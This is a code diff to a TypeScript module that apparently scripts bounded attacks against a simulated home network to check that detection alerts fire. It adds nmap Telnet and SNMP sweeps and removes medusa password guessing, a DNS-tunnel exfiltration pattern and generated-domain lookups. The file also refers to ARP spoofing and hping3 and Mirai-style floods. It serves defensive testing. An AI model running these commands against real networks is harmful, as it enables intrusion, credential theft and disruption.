@@ -1,19 +1,8 @@
-// What a broken device does to the small home: each attack is a real program, bounded in packets and time.
-import { writeFileSync } from 'node:fs';
-import { join } from 'node:path';
+// What a broken device does to the small home: sweeps, scans, floods and lies. Each is a real program, bounded in packets and time.
+import { type Attack, attackWith, nas, shoot } from './attack-programs.ts';
 import { type Device, HOME_RANGE, NETWORK } from './home.ts';
 import { type Household, pause } from './household.ts';
-import { BAD_SITE, rogueDhcpWords } from './services.ts';
-
-export interface Attack {
-  /** Kind of the alert that it must raise. */
-  readonly kind: string;
-  /** What is run, in words for people. */
-  readonly title: string;
-  /** The victim's address, or a whole network's. */
-  readonly target: (house: Household) => string;
-  readonly run: (house: Household, source: Device) => Promise<void>;
-}
+import { rogueDhcpWords } from './services.ts';
 
 /** Where nobody answers: addresses beyond the router. */
 const BEYOND = `${NETWORK}.128/26`;
@@ -21,9 +10,7 @@ const BEYOND = `${NETWORK}.128/26`;
 const MIRAI_AT_ONCE = 12;
 /** arpspoof tells the truth five times, a second apart, before it ends. */
 const LAST_WORDS_MS = 8000;
-const GUESSING_MS_MAX = 12_000;
 
-const nas = (house: Household): string => house.nas.ip;
 const home = (): string => HOME_RANGE;
 const beyond = (): string => BEYOND;
 
@@ -41,6 +28,22 @@ export const pingSweep: Attack = {
   run: (house, source) => attackWith(house, source, ['nmap', '-n', '-sn', '-PE', '-T4', '--max-retries', '1', BEYOND]),
 };
 
+export const tcpSweep: Attack = {
+  kind: 'host-sweep',
+  title: 'nmap -sS -p 23: searches 64 addresses beyond the router for Telnet',
+  target: beyond,
+  run: (house, source) =>
+    attackWith(house, source, ['nmap', '-n', '-Pn', '-sS', '-p', '23', '-T4', '--max-retries', '0', BEYOND]),
+};
+
+export const udpSweep: Attack = {
+  kind: 'host-sweep',
+  title: 'nmap -sU -p 161: searches 64 addresses beyond the router for SNMP',
+  target: beyond,
+  run: (house, source) =>
+    attackWith(house, source, ['nmap', '-n', '-Pn', '-sU', '-p', '161', '-T4', '--max-retries', '0', BEYOND]),
+};
+
 export const portScan: Attack = {
   kind: 'port-scan',
   title: 'nmap -sS: SYN scan of the 300 best known ports',
@@ -55,20 +58,6 @@ export const udpScan: Attack = {
   target: nas,
   run: (house, source) =>
     attackWith(house, source, ['nmap', '-n', '-Pn', '-sU', '-T4', '-F', '--max-retries', '0', house.nas.ip]),
-};
-
-export const bruteForce: Attack = {
-  kind: 'brute-force',
-  title: 'medusa: 48 passwords tried on SSH',
-  target: nas,
-  run: (house, source) => guessPasswords(house, source, 'ssh', 4),
-};
-
-export const telnetBruteForce: Attack = {
-  kind: 'brute-force',
-  title: 'medusa: up to 48 passwords tried on Telnet',
-  target: nas,
-  run: (house, source) => guessPasswords(house, source, 'telnet', 16),
 };
 
 export const arpSpoof: Attack = {
@@ -156,66 +145,3 @@ export const scapyMiraiSyn: Attack = {
     return attackWith(house, source, ['/usr/bin/python3', '-c', program.join('\n')]);
   },
 };
-
-export const dnsTunnel: Attack = {
-  kind: 'dns-tunnel',
-  title: `dig: a file leaves in 150 long names under ${BAD_SITE}`,
-  target: (house) => house.home.router.ip,
-  run: (house, source) => {
-    // As dns2tcp and iodine make names: base32 text that looks like chance.
-    const random = letters('abcdefghijklmnopqrstuvwxyz234567');
-    const names = Array.from({ length: 150 }, () => `${random(40)}.${random(40)}.${BAD_SITE} TXT`);
-    return ask(house, source, names);
-  },
-};
-
-export const generatedNames: Attack = {
-  kind: 'generated-names',
-  title: 'dig: 120 made-up names, none of which exists, in search of a control server',
-  target: (house) => house.home.router.ip,
-  run: (house, source) => {
-    const random = letters('abcdefghijklmnopqrstuvwxyz');
-    return ask(
-      house,
-      source,
-      Array.from({ length: 120 }, (_, i) => `${random(12 + (i % 7))}.${['com', 'net', 'info', 'biz'][i % 4]} A`),
-    );
-  },
-};
-
-/** Runs a program of the attacker; a wrong status means that there was no attack. */
-async function attackWith(house: Household, source: Device, words: readonly string[]): Promise<void> {
-  const run = await house.home.run(source, words);
-  if (run.status !== 0) throw new Error(`${words.join(' ')}: exit ${run.status}: ${run.stderr}`);
-}
-
-/** hping3 exits 1 when some packets get no answer; they were sent all the same. */
-async function shoot(house: Household, source: Device, words: readonly string[]): Promise<void> {
-  const run = await house.home.run(source, ['hping3', '-q', ...words]);
-  if (!/packets (transmitted|tramitted)/.test(run.stderr + run.stdout)) throw new Error(`hping3: ${run.stderr}`);
-}
-
-/** Telnet's login program waits three seconds after each refusal, so the list may not be tried to its end. */
-async function guessPasswords(house: Household, source: Device, service: string, atOnce: number): Promise<void> {
-  const file = join(house.home.folder, 'passwords');
-  writeFileSync(file, Array.from({ length: 48 }, (_, i) => `admin${1000 + i * 37}`).join('\n'));
-  const words = ['medusa', '-h', house.nas.ip, '-u', 'admin', '-P', file, '-M', service, '-t', String(atOnce)];
-  const run = await house.home.run(source, words, { timeoutMs: GUESSING_MS_MAX });
-  if (run.status !== 0 && run.status !== null) throw new Error(`medusa: exit ${run.status}: ${run.stderr}`);
-}
-
-function ask(house: Household, source: Device, questions: readonly string[]): Promise<void> {
-  const file = join(house.home.folder, 'questions');
-  writeFileSync(file, `${questions.join('\n')}\n`);
-  return attackWith(house, source, ['dig', '+tries=1', '+time=1', '-f', file]);
-}
-
-/** Texts of letters that look like chance and are the same at every run. */
-function letters(alphabet: string): (count: number) => string {
-  let state = 77;
-  const next = (): string => {
-    state = (state * 1_103_515_245 + 12_345) % 2_147_483_648;
-    return alphabet[Math.floor(state / 4096) % alphabet.length]!;
-  };
-  return (count) => Array.from({ length: count }, next).join('');
-}
